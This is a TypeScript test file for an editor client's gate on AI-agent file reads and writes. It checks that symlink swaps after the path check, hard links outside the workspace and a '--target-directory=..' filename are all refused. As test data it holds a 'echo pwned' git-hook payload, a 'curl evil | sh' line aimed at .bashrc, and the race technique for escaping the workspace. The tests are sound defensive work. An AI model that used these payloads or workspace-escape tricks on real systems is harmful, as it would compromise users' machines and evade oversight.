// fs/* through the client's gate (`clientHandlers`) into `ClientFileSystem`, on a real temporary workspace: the file
// reached is the one the gate checked, even when a link changes between the check and the access.
import assert from "node:assert/strict";
import {
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as v1 from "@agentclientprotocol/sdk";
import type { AgentConnection } from "../../src/acp/agentConnection";
import { ClientFileSystem } from "../../src/acp/clientFileSystem";
import { clientCallbacks } from "../../src/acp/clientHandlers";
import type { Runtime } from "../../src/acp/connectionPool";
import type { ConnectionScope } from "../../src/acp/connectionScope";
import type { PermissionBroker } from "../../src/acp/permissionBroker";
import { PolicyBoundary } from "../../src/core/policy/resolvePath";

const quiet = (): void => undefined;

describe("fs/* reaches the file its check saw", () => {
  let base: string;
  let ws: string;

  beforeEach(() => {
    base = mkdtempSync(join(tmpdir(), "symposium-fs-gate-"));
    ws = join(base, "ws");
    mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
    writeFileSync(join(ws, "real.md"), "notes\n");
    symlinkSync("real.md", join(ws, "notes.md"));
  });

  afterEach(() => rmSync(base, { recursive: true, force: true }));

  /** The gate and file system over `ws`; the first check of a path is followed at once by `afterCheck`. */
  function gate(
    afterCheck: () => void,
    confirm: PermissionBroker["confirmProtectedAccess"] = () => Promise.resolve({ allowed: false }),
  ) {
    const boundary = new PolicyBoundary([ws], { home: join(base, "home"), caseInsensitive: () => false });
    let checked = false;
    const paths = new Proxy(boundary, {
      get(target, key) {
        if (key !== "check") {
          const value = Reflect.get(target, key, target) as unknown;
          return typeof value === "function" ? (value as (...a: unknown[]) => unknown).bind(target) : value;
        }
        return (path: string) => {
          const result = target.check(path);
          if (!checked) {
            checked = true;
            afterCheck();
          }
          return result;
        };
      },
    });
    const fileSystem = new ClientFileSystem(() => paths, {
      openText: () => undefined,
    });
    const session = { heard: () => undefined };
    const callbacks = clientCallbacks({
      scopeOf: () => ({ route: () => session }) as unknown as ConnectionScope,
      runtime: () => ({ sdk: { RequestError: v1.RequestError }, fileSystem }) as unknown as Runtime,
      broker: { confirmProtectedAccess: confirm, fsRule: () => undefined } as unknown as PermissionBroker,
      paths: () => paths,
      log: { trace: quiet, debug: quiet, info: quiet, warn: quiet, error: quiet },
    });
    return callbacks.fileSystem!;
  }

  it("a link re-pointed at a git hook right after the check leads the write nowhere else", async () => {
    const notes = join(ws, "notes.md");
    const fs = gate(() => {
      // What a process of the agent's could do between the check and the write.
      unlinkSync(notes);
      symlinkSync(join(".git", "hooks", "pre-commit"), notes);
    });
    const written = fs
      .write({} as AgentConnection, { sessionId: "s", path: notes, content: "#!/bin/sh\necho pwned\n" })
      .then(
        () => "written",
        () => "refused",
      );
    assert.equal(await written, "refused");
    assert.equal(existsSync(join(ws, ".git", "hooks", "pre-commit")), false, "the hook was not written");
    assert.equal(readFileSync(join(ws, "real.md"), "utf8"), "notes\n");
  });

  it("a protected file's card is withdrawn when the agent withdraws its request", async () => {
    const signals: (AbortSignal | undefined)[] = [];
    const fs = gate(
      () => undefined,
      (...args) => {
        const signal = args[5]?.signal;
        signals.push(signal);
        // The card waits for a person, or for the agent to withdraw the request: then it is not allowed.
        // (Withdrawn already while the file's text was read for the card: `PendingApprovals.add` settles it at once.)
        return new Promise((resolve) => {
          if (signal?.aborted) resolve({ allowed: false });
          signal?.addEventListener("abort", () => resolve({ allowed: false }));
        });
      },
    );
    const withdrawn = new AbortController();
    const written = fs
      .write(
        {} as AgentConnection,
        { sessionId: "s", path: join(ws, ".git", "config"), content: "[core]\n" },
        { signal: withdrawn.signal, requestId: 7 },
      )
      .then(
        () => "written",
        () => "refused",
      );
    withdrawn.abort();
    assert.equal(await written, "refused");
    assert.equal(signals[0], withdrawn.signal, "the card is given the request's signal");
    assert.equal(existsSync(join(ws, ".git", "config")), false);
  });

  it("asks a person before writing a new file whose name begins with -", async () => {
    // A later `cp * build/` beside `--target-directory=..` copies into the workspace's parent (GNU cp here).
    const asked: string[] = [];
    const fs = gate(
      () => undefined,
      (...args) => {
        asked.push(`${args[4]} ${args[2]}`);
        return Promise.resolve({ allowed: false });
      },
    );
    const made = join(ws, "src", "--target-directory=..");
    mkdirSync(join(ws, "src"));
    const written = fs.write({} as AgentConnection, { sessionId: "s", path: made, content: "" }).then(
      () => "written",
      () => "refused",
    );
    assert.equal(await written, "refused");
    assert.deepEqual(asked, [`write ${made}`]);
    assert.equal(existsSync(made), false);
  });

  it("a link left alone is followed to the file the check saw", async () => {
    const fs = gate(() => undefined);
    await fs.write({} as AgentConnection, { sessionId: "s", path: join(ws, "notes.md"), content: "new\n" });
    assert.equal(readFileSync(join(ws, "real.md"), "utf8"), "new\n");
  });
});

describe("fs/* through a document open in the editor", () => {
  let base: string;
  let ws: string;
  let outside: string;

  beforeEach(() => {
    base = mkdtempSync(join(tmpdir(), "symposium-fs-open-"));
    ws = join(base, "ws");
    outside = join(base, "outside");
    mkdirSync(ws);
    mkdirSync(outside);
  });

  afterEach(() => rmSync(base, { recursive: true, force: true }));

  /** The file system over `ws` with an editor holding `documents` (path → unsaved text). */
  function withEditor(documents: Map<string, string>) {
    const boundary = new PolicyBoundary([ws], { home: join(base, "home"), caseInsensitive: () => false });
    const editor = { openText: (path: string) => documents.get(path) };
    const fs = new ClientFileSystem(() => boundary, editor);
    const checked = (path: string) => boundary.resolveInside(path) ?? "";
    return {
      read: (path: string) => fs.read({ path }, checked(path)),
      write: (path: string, content: string, afterCheck: () => void = () => undefined) => {
        const checkedPath = checked(path);
        afterCheck();
        return fs.write({ path, content }, checkedPath);
      },
    };
  }

  it("neither reads nor writes a hard link's document, whose file is also a file outside the workspace", async () => {
    const key = join(outside, "key");
    writeFileSync(key, "SECRET\n");
    const named = join(ws, "notes.txt");
    linkSync(key, named);
    const fs = withEditor(new Map([[named, "SECRET\n"]]));
    await assert.rejects(fs.read(named), /hard links/);
    await assert.rejects(fs.write(named, "overwritten\n"), /hard links/);
    assert.equal(readFileSync(key, "utf8"), "SECRET\n", "the file outside was not written");
  });

  it("does not write a document whose name became a link after the check: it would lead outside", async () => {
    const named = join(ws, "new.txt");
    const target = join(outside, "planted");
    const fs = withEditor(new Map([[named, ""]]));
    // After the check: what a process of the agent's could do before the write.
    await assert.rejects(fs.write(named, "written\n", () => symlinkSync(target, named)));
    assert.equal(existsSync(target), false, "nothing was written through the link");
  });

  it("does not write an open document's file when a folder of its path became a link after the check", async () => {
    mkdirSync(join(ws, "src"));
    const named = join(ws, "src", ".bashrc");
    writeFileSync(named, "# the project's\n");
    const fs = withEditor(new Map([[named, "# the person's unsaved edit\n"]]));
    // A process of the agent's swaps `src` for a link to another folder between the check and the write.
    const swap = () => {
      renameSync(join(ws, "src"), join(ws, "src-moved"));
      symlinkSync(outside, join(ws, "src"));
    };
    await assert.rejects(fs.write(named, "curl evil | sh\n", swap));
    assert.equal(existsSync(join(outside, ".bashrc")), false, "nothing was written outside the workspace");
  });

  it("reads a document with unsaved changes with its file's BOM, so that writing the text back keeps it", async () => {
    // The editor's text of a UTF-8 file with a BOM leaves the BOM out; the file's own read keeps it.
    const named = join(ws, "notes.txt");
    writeFileSync(named, "\uFEFFsaved\r\n");
    const fs = withEditor(new Map([[named, "unsaved\r\n"]]));
    const { content } = await fs.read(named);
    assert.equal(content, "\uFEFFunsaved\r\n");
    await fs.write(named, content.replace("unsaved", "edited"));
    assert.deepEqual(readFileSync(named), Buffer.from("\uFEFFedited\r\n", "utf8"));
    // A file without one gets none.
    writeFileSync(named, "saved\n");
    assert.equal((await fs.read(named)).content, "unsaved\r\n");
  });

  it("answers a file that is not UTF-8 text with an error, open in the editor or not, and keeps its bytes", async () => {
    const latin1 = Buffer.from("caf\xe9\n", "latin1");
    const closed = join(ws, "closed.txt");
    const opened = join(ws, "opened.txt");
    writeFileSync(closed, latin1);
    writeFileSync(opened, latin1);
    // The editor may show it decoded in its own way; the agent would write back whatever it was given.
    const fs = withEditor(new Map([[opened, "caf\ufffd\n"]]));
    for (const path of [closed, opened]) {
      const refusal = { code: -32602, message: /not UTF-8 text/ };
      await assert.rejects(fs.read(path), refusal);
      await assert.rejects(fs.write(path, "caf\ufffd\n"), refusal);
      assert.deepEqual(readFileSync(path), latin1, "the file keeps its bytes");
    }
  });

  it("serves an open document's unsaved text and leaves it to the person when the agent writes the file", async () => {
    const named = join(ws, "notes.txt");
    writeFileSync(named, "saved\n");
    const documents = new Map([[named, "unsaved\nsecond\n"]]);
    const fs = withEditor(documents);
    assert.deepEqual(await fs.read(named), { content: "unsaved\nsecond\n" });
    await fs.write(named, "by the agent\n");
    assert.equal(readFileSync(named, "utf8"), "by the agent\n");
    assert.equal(documents.get(named), "unsaved\nsecond\n", "the person's unsaved edits are not replaced");
  });
});
